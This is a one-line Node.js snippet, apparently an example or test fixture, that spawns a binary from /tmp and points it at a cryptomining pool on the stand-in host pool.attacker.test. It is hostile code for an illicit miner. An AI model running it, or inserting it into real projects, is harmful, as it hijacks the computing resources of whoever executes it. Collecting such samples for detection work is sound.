require("child_process").spawn("/tmp/m", ["--url", "stratum+ssl://pool.attacker.test:443"]);
